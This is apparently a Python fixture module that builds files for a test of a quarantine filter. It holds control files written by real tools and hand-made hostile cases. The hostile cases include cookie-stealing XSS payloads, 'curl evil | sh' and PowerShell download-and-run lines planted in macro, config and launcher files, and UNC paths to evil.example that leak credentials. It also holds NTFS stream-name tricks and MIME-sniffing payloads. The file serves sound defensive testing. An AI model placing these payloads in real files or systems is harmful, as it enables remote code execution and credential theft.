"""Files for tests/quarantine/test_attack_independent_gcontent.py (independent attack g,
content; FITS in attack_gcontent_fits.py): real tool output (pandas, json, numpy, csv,
logging, gzip(1), Python's gzip, shutil, zipfile, tarfile) and hand-made hostile files.

Every builder returns {path in the quarantine: bytes}. A path whose base name starts with
`ctl` is a control: real output, written as a physicist would, that must be published
byte-identical; any other path is a case the claims say must be refused.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import logging
import shutil
import struct
import subprocess
import tarfile
import zipfile
import zlib
from pathlib import Path

import numpy as np

CSV = b"run,energy\n1,0.5\n2,0.75\n"
# An XML document whose XHTML <img> runs its onerror handler where a browser renders the
# document as XML (text/xml, application/xml, image/svg+xml, atom, rss, xhtml; Firefox
# also other +xml types). None of the text rule's markup (<script <svg <html <?xml ...).
XML_PAGE = (
    b'<feed xmlns:h="http://www.w3.org/1999/xhtml">'
    b'<h:img src="x" onerror="fetch(\'/steal?\'+document.cookie)"/></feed>\n'
)
# Extensions Debian's mime.types types as XML or JSON (what Apache, and Python's
# servers through mimetypes.init(), send), written out so every machine collects the same.
_XML_WORDS = """1km apxml atom atomcat atomdeleted atomsrv atomsvc bmml ccmp ccxml cdxml cellml cl
clue cpl csl dae davmount dd2 ddf dist distz dtd dwd emma emotionml es3 et3 fdt fo gml
grxml gsheet hal held ink inkml irp its kml lasxml lbe lgr link66 lostsyncxml lostxml mads
maei meta4 mets mml mods moml mpd mpkg mrcx musd mxml obgx odd opf osm pkg provx
pskcxml rapd rdf relo rfcxml rif rl rld rs rsat rsheet rss rusd scl sdkd sdkm senmlx
sensmlx shf sls smi smil sml sru srx ssml stpx svg svgz swidtag td tei teiCorpus tfi ttml
uis uo uoml uvt uvvt vxml wadl wbs wif wsdl wspolicy x3d x3dz xav xca xcs xdf xdm xdp
xdssc xel xer xht xhtm xhtml xhvml xlf xml xmls xns xop xpdl xsf xsl xslt xsm xspf xul
xvm xvml yin zaz zmm"""
_JSON_WORDS = """aion artisan carjson docjson geojson gltf grd ign ignition jrd json json-patch
jsonld jsontd jsontm lasjson ppttc sarif sarif-external-properties scim senml senml-etchj
sensml stix vcj vtnstd webmanifest"""
XML_EXTS = tuple(_XML_WORDS.split())
JSON_EXTS = tuple(_JSON_WORDS.split())
# JSON whose white space no serializer writes: text to vmguard, so the spaces are free.
LOOSE_JSON = b'{ "run" :  42 ,"energy":   [0.5 ,  0.75] }\n'
# Names Windows reads as another: trailing dots and spaces, and NTFS's default data
# stream (`run.bat::$DATA` is run.bat to CreateFile, so to an unzip or copy there).
WINDOWS_ALIASES = {
    "ads-run.bat::$DATA": b"calc.exe\r\n",
    "ads-page.hta::$DATA": b"run 42 summary\n",
    "ads-feed.xml::$DATA": XML_PAGE,
    "ads-loose.json::$DATA": LOOSE_JSON,
    "ads-run.cmd:stream": b"calc.exe\r\n",
    "dot-upper.JSON": LOOSE_JSON,
    "dot-mixed.Json": LOOSE_JSON,
    "dot-trail.json.": LOOSE_JSON,
    "dot-space.json ": LOOSE_JSON,
    "dot-mix.xml . .": XML_PAGE,
}


# Names a client acts on when they are opened, or a tool runs from the directory it starts
# in, each holding the text it acts on.
ACTED_ON = {
    "theme-bleed.theme": b"[Control Panel\\Desktop]\r\nWallpaper=\\\\evil.example\\share\\w.bmp\r\n",
    "themepack-ini.themepack": b"[Theme]\r\nDisplayName=run 42\r\n",
    "query.dqy": b"XLODBC\r\n1\r\nDSN=evil\r\nSELECT 1\r\n",
    "query.rqy": b"QueryType=OLEDB\r\nConnection=Provider=MSOLAP;Data Source=evil\r\n",
    "query.oqy": b"QueryType=OLEDB\r\nConnection=Provider=MSOLAP;Data Source=evil\r\n",
    "conn.odc": b"<html xmlns:o=x><body>odc</body></html>\r\n",
    "scriptlet.sct": b"<scriptlet><registration progid=x/></scriptlet>\r\n",
    "component.wsc": b"<component><public/></component>\r\n",
    "behaviour.htc": b"<public:component><public:attach event=onload onevent=alert(1) /></public:component>\n",
    "clickonce.appref-ms": b"https://evil.example/app.application#app.application, Culture=neutral\r\n",
    "store.appinstaller": b"<AppInstaller Uri='https://evil.example/x.appinstaller' Version='1.0.0.0'/>\r\n",
    "deploy.application": b"<asmv1:assembly xmlns:asmv1='urn:schemas-microsoft-com:asm.v1'/>\r\n",
    "leak.library-ms": b"<libraryDescription xmlns='http://schemas.microsoft.com/windows/2009/library'>"
    b"<searchConnectorDescriptionList><searchConnectorDescription><simpleLocation>"
    b"<url>\\\\evil.example\\share</url></simpleLocation></searchConnectorDescription>"
    b"</searchConnectorDescriptionList></libraryDescription>\r\n",
    "leak.searchConnector-ms": b"<searchConnectorDescription><simpleLocation><url>\\\\evil\\s</url>"
    b"</simpleLocation></searchConnectorDescription>\r\n",
    "page.mht": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=alert(1)>\r\n",
    "page.mhtml": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=alert(1)>\r\n",
    "page.eml": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=alert(1)>\r\n",
    "launch.desktop": b"[Desktop Entry]\nType=Application\nName=run 42 plots\nExec=sh -c 'curl evil|sh'\n",
    "launch.command": b"curl evil | sh\n",
    "launch.tool": b"curl evil | sh\n",
    "launch.terminal": b"CommandString = curl evil | sh\n",
    "link.fileloc": b"URL=file:///Applications/Calculator.app\n",
    "link.webloc": b"URL=https://evil.example/\n",
    "link.inetloc": b"URL=https://evil.example/\n",
    "web.website": b"[InternetShortcut]\r\nURL=https://evil.example/\r\n",
    "start.jnlp": b"<jnlp codebase='https://evil.example'><application-desc/></jnlp>\n",
    "mod.psm1": b"Invoke-Expression (iwr https://evil.example)\r\n",
    "mod.psd1": b"@{ RootModule = 'mod.psm1' }\r\n",
    "types.ps1xml": b"<Types><Type><Name>System.Object</Name></Type></Types>\r\n",
    "console.psc1": b"<PSConsoleFile ConsoleSchemaVersion='1.0'/>\r\n",
    "snap.msc": b"<MMC_ConsoleFile ConsoleVersion='3.0'/>\r\n",
    "vis/init_vis.mac": b"/control/shell curl evil | sh\n/run/initialize\n",
    "vis/vis.mac": b"/control/shell curl evil | sh\n",
    "vis/gui.mac": b"/control/shell curl evil | sh\n",
    "tex/latexmkrc": b"system('curl evil | sh');\n$pdf_mode = 1;\n",
    "idl/plot.pro": b"pro plot, x\n  spawn, 'curl evil | sh'\nend\n",
    "stata/profile.do": b"shell curl evil | sh\n",
    "stata/reghdfe.ado": b"program reghdfe\n  shell curl evil | sh\nend\n",
    "sas/autoexec.sas": b"x 'curl evil | sh';\n",
    "octave/PKG_ADD": b"system('curl evil | sh');\n",
    # A server runs these: mod_wsgi's documented `AddHandler wsgi-script .wsgi` (any
    # extension of the name, as .cgi), twistd web's .rpy and .epy processors, mod_python's .psp.
    "srv/app.wsgi": b"import os\nos.system('id')\napplication = None\n",
    "srv/notes.wsgi.txt": b"import os\nos.system('id')\napplication = None\n",
    "srv/res.rpy": b"import os\nos.system('id')\n",
    "srv/page.epy": b"import os\nos.system('id')\n",
    "srv/page.psp": b"<% import os; os.system('id') %>\n",
    "win/desktop.ini": b"[.ShellClassInfo]\r\nIconResource=\\\\evil.example\\share\\icon.ico,0\r\n",
    "win/autorun.inf": b"[autorun]\r\nopen=run.bat\r\n",
}


def name_cases() -> dict[str, bytes]:
    """Names a client takes for an XML page or for JSON, holding what they say."""
    files = {f"typed-xml.{ext}": XML_PAGE for ext in XML_EXTS}
    files |= {f"typed-json.{ext}": LOOSE_JSON for ext in JSON_EXTS}
    return files | WINDOWS_ALIASES | ACTED_ON


def sniff_cases() -> dict[str, bytes]:
    """First bytes a browser renders as HTML when the server sends no type."""
    img = b' src=x onerror="alert(document.domain)">\n'
    return {
        "sniff-IMG-upper.dat": b"<IMG" + img,
        "sniff-ff-H3.dat": b"\x0c<H3>run</H3><img" + img,
        "sniff-form-slash.out": b"<form/action=x><img" + img,
        "sniff-META.lhe": b"<META http-equiv=refresh content='0;url=javascript:alert(1)'>\n",
        "sniff-crlf-Link.dat": b"\r\n\r\n<LINK rel=import href=x>\n<img" + img,
        "sniff-applet.dat": b"<applet code=x><img" + img,
        "sniff-base.dat": b"<base href=//evil/><img" + img,
        "sniff-Center.dat": b"<Center><img" + img,
        "sniff-isindex.dat": b"<ISINDEX><img" + img,
        "sniff-frameset.dat": b"<FrameSet onload=alert(1)>\n",
        "sniff-ws1440.dat": b" " * 1440 + b"<p><img" + img,
        "sniff-crlf1438-tab.dat": b"\r\n" * 719 + b"\t<P>" + img,
        "sniff-ff1000-h1.dat": b"\x0c" * 1000 + b"<h1>" + img,
        "sniff-pdf.dat": b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n",
    }


def _pandas_frame():
    import pandas as pd

    return pd.DataFrame(
        {
            "t0": [1733306400.123456789, 1733306401.5],
            "sigma": [1.0e-16, 2.5e-7],
            "lumi": [1.5e16, 3.0e25],
            "eff": [1 / 3, -0.0],
            "n": [12, 13],
            "det": ["µ-chamber/α", "ecal"],
        }
    )


def json_escape_cases() -> dict[str, bytes]:
    """One file, two spellings for characters of one class: raw é beside an escaped C1
    control or an escaped character outside the BMP (no writer mixes them)."""
    return {
        "json-c1-escaped-beside-raw.json": '{"a":"\u00e9x","b":"\\u0085"}'.replace("\\u00e9", "é").encode(),
        "json-astral-escaped-beside-raw.json": '{"a":"é","b":"\\ud83d\\ude00"}'.encode(),
        "json-raw-c1-beside-ascii-escape.json": '{"a":"\\u00e9","b":"\u0085"}'.encode(),
        "ctl-json-c1-escaped.json": json.dumps({"a": "é", "b": "\u0085"}).encode(),
        "ctl-json-astral-raw.json": json.dumps({"a": "é", "b": "\U0001f600"}, ensure_ascii=False).encode(),
    }


def json_controls() -> dict[str, bytes]:
    """pandas' to_json in every orient, indented, double_precision 15, lines; json.dumps."""
    df = _pandas_frame()
    files = {
        f"ctl-pd-{orient}-p15.json": df.to_json(orient=orient, double_precision=15).encode()
        for orient in ("split", "records", "index", "columns", "values", "table")
    }
    files |= {
        "ctl-pd-indent2.json": df.to_json(orient="records", indent=2).encode(),
        "ctl-pd-index-indent4-p3.json": df.to_json(orient="index", indent=4, double_precision=3).encode(),
        "ctl-pd-lines.jsonl": df.to_json(orient="records", lines=True).encode(),
        "ctl-pd-lines-named.json": df.to_json(orient="records", lines=True).encode(),
        "ctl-pd-indent0.json": df.to_json(orient="columns", indent=0).encode(),
        "ctl-pd-series-p12.json": df["t0"].to_json(double_precision=12).encode(),
        "ctl-pd-ascii-false.json": df.to_json(force_ascii=False).encode(),
        "ctl-json-nonascii-indent1.json": json.dumps(
            {"det": "µ-chamber/α", "v": [1e-7, 1.5e300, 2**70]}, ensure_ascii=False, indent=1
        ).encode(),
    }
    return files


def _logging_non_ascii(path: Path) -> bytes:
    log = logging.getLogger(f"gcontent.{path.name}")
    handler = logging.FileHandler(path, encoding="utf-8")
    handler.setFormatter(logging.Formatter("%(asctime)s %(levelname)s %(name)s: %(message)s"))
    log.addHandler(handler)
    log.propagate = False
    try:
        log.warning("Détecteur µ: ΔE = %.3f MeV, χ²/ndf = %s", 1.25, "12.3/10")
        try:
            raise ValueError("température hors limites: 81 °C")
        except ValueError:
            log.exception("run 4242 aborted — voir «logbook»")
    finally:
        handler.close()
        log.removeHandler(handler)
    return path.read_bytes()


def _csv_dialect(dialect: str, **kw) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, dialect=dialect, **kw)
    writer.writerow(["run", "energy [GeV]", "comment"])
    writer.writerow([1, 0.5, 'ok, "good"'])
    writer.writerow([2, 1e-9, "Zürich\tline"])
    return out.getvalue().encode()


def _savetxt(values, **kw) -> bytes:
    out = io.BytesIO()
    np.savetxt(out, values, **kw)
    return out.getvalue()


def text_controls(work: Path) -> dict[str, bytes]:
    """numpy, csv dialects, logging with non-ASCII, pandas to_csv: as written in a lab."""
    work.mkdir(parents=True, exist_ok=True)
    grid = np.array([[1.0, 2.5e-12, -3.0], [4.25, 5e30, 6.0]])
    grid.tofile(work / "tofile.txt", sep=" ", format="%.6e")
    df = _pandas_frame()
    return {
        "ctl-savetxt-default.txt": _savetxt(grid),
        "ctl-savetxt-crlf-header.csv": _savetxt(
            grid, delimiter=",", header="a,b,c", newline="\r\n", fmt="%.4g", comments="# "
        ),
        "ctl-savetxt-complex.txt": _savetxt(np.array([1 + 2j, -0.5j])),
        "ctl-tofile-sep.txt": (work / "tofile.txt").read_bytes(),
        "ctl-csv-excel-tab.tsv": _csv_dialect("excel-tab"),
        "ctl-csv-unix.csv": _csv_dialect("unix"),
        "ctl-csv-nonnumeric.csv": _csv_dialect("excel", quoting=csv.QUOTE_NONNUMERIC),
        "ctl-logging-utf8.log": _logging_non_ascii(work / "run.log"),
        "ctl-pd-to-csv-float.csv": df.to_csv(float_format="%.17g").encode(),
        "ctl-pd-to-csv-tsv.tsv": df.to_csv(sep="\t", index=False).encode(),
        "ctl-run_0042.2024-12-04T10:00.dat": b"# run 42\n0.5 0.75\n",
        "ctl-ROOT-mu+mu-@13TeV (v2).txt": b"mu+ mu- at 13 TeV\n",
        "ctl-run.log.1": _logging_non_ascii(work / "rot.log"),
        # np.savetxt to a path encodes in Latin-1 unless told otherwise (its documented default).
        "ctl-savetxt-path-header.txt": _savetxt_path(work / "sp.txt", grid, header="E [µeV]  T [°C]"),
        "ctl-run.log.2024-12-04_10": b"2024-12-04 10:00:00,001 INFO run 42 start\n",
        "ctl-pd-float32.json": _pandas_float32(),
    }


def _savetxt_path(path: Path, values, **kw) -> bytes:
    np.savetxt(path, values, **kw)
    return path.read_bytes()


def _pandas_float32() -> bytes:
    import pandas as pd

    df = pd.DataFrame({"adc": np.array([0.1, 1e-8, 3.4e38, 16777217.0], dtype=np.float32)})
    return df.to_json(orient="split").encode()


def _member(data: bytes, fname: bytes | None, mtime: int = 1733306400) -> bytes:
    """One gzip member as GNU gzip or Python's gzip writes it (FLG FNAME or 0, XFL 0, OS 3)."""
    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
    body = comp.compress(data) + comp.flush()
    flg = 8 if fname is not None else 0
    head = b"\x1f\x8b\x08" + bytes([flg]) + struct.pack("<I", mtime) + b"\x00\x03"
    head += (fname + b"\x00") if fname is not None else b""
    return head + body + struct.pack("<II", zlib.crc32(data), len(data) & 0xFFFFFFFF)


def _gnu_gzip(work: Path, name: str, data: bytes, *args: str) -> bytes:
    path = work / name
    path.write_bytes(data)
    subprocess.run(["gzip", *args, str(path)], check=True)
    suffix = args[args.index("-S") + 1] if "-S" in args else ".gz"
    out = path.with_name(path.name + suffix)
    return out.read_bytes()


def _python_gzip(work: Path, name: str, data: bytes) -> bytes:
    with gzip.open(work / name, "wb") as fh:
        fh.write(data)
    return (work / name).read_bytes()


def gzip_cases(work: Path) -> dict[str, bytes]:
    """Each member's FNAME spelling, real writers' names, gzip -k/-9/-n."""
    work.mkdir(parents=True, exist_ok=True)
    name = "données.csv"
    rows = [CSV[i : i + 8] for i in range(0, len(CSV), 8)]
    utf8, latin1 = name.encode(), name.encode("latin-1")
    bits = b"\x01\x00\x01\x01\x00\x00\x01\x00"  # 1 = Latin-1 this member, 0 = UTF-8
    mixed = b"".join(_member(row, latin1 if bit else utf8) for row, bit in zip(rows, bits, strict=False))
    return {
        # Each member names the file, once as GNU gzip spells it, once as Python's gzip.
        "données.csv.gz": mixed,
        "ctl-données-gnu.csv.gz": _gnu_gzip(work, "ctl-données-gnu.csv", CSV),
        "ctl-données-py.csv.gz": _python_gzip(work, "ctl-données-py.csv.gz", CSV),
        "ctl-RUN42.CSV.GZ": _python_gzip(work, "ctl-RUN42.CSV.GZ", CSV),
        "ctl-gzip-k9.csv.gz": _gnu_gzip(work, "ctl-gzip-k9.csv", CSV, "-k", "-9"),
        "ctl-gzip-n1.txt.gz": _gnu_gzip(work, "ctl-gzip-n1.txt", b"text\n" * 50, "-n", "-1"),
        "ctl-gzip-S-z.csv_z": _gnu_gzip(work, "ctl-gzip-S-z.csv", CSV, "-S", "_z"),
        "ctl-pd-to-csv.csv.gz": _pandas_gzip(work / "ctl-pd-to-csv.csv.gz"),
        "query-gz.dqy.gz": _gnu_gzip(work, "query-gz.dqy", ACTED_ON["query.dqy"], "-n"),
        # logrotate's compress: gzip -9 of the rotated file, kept under its name.
        "ctl-run.log.1.gz": _gnu_gzip(work, "ctl-run.log.1", b"INFO run 42 done\n" * 20, "-9"),
    }


def _pandas_gzip(path: Path) -> bytes:
    _pandas_frame().to_csv(path)
    return path.read_bytes()


def _tar(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 1733306400
            tf.addfile(info, io.BytesIO(data))
    return out.getvalue()


def archive_cases(work: Path) -> dict[str, bytes]:
    """A zip member and a tar member a browser sniffs as a page; shutil's archives."""
    work.mkdir(parents=True, exist_ok=True)
    page = b"<p>run 42 summary<img src=x onerror=alert(document.domain)>\n"
    files: dict[str, bytes] = {}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("summary.dat", page)
    files["zip-member-page.zip"] = out.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("feed.atom", XML_PAGE)
    files["zip-member-xmlpage.zip"] = out.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("run.bat::$DATA", b"calc.exe\r\n")
    files["zip-member-ads-bat.zip"] = out.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("site.webmanifest", LOOSE_JSON)
    files["zip-member-loose-json.zip"] = out.getvalue()
    files["tar-member-ads-bat.tar"] = _tar({"run.bat::$DATA": b"calc.exe\r\n"})
    files["tar-member-acted-on.tar"] = _tar({k: ACTED_ON[k] for k in ("vis/init_vis.mac", "query.dqy")})
    files["tar-member-page.tar"] = _tar({"summary.dat": page})
    src = work / "run42"
    (src / "hists").mkdir(parents=True)
    (src / "hists" / "e.csv").write_bytes(CSV)
    (src / "notes.txt").write_bytes(b"calibration ok\n")
    for fmt, ext in (("zip", "zip"), ("tar", "tar"), ("gztar", "tar.gz")):
        made = shutil.make_archive(str(work / f"ctl-shutil-{fmt}"), fmt, root_dir=src)
        files[f"ctl-shutil-{fmt}.{ext}"] = Path(made).read_bytes()
    return files
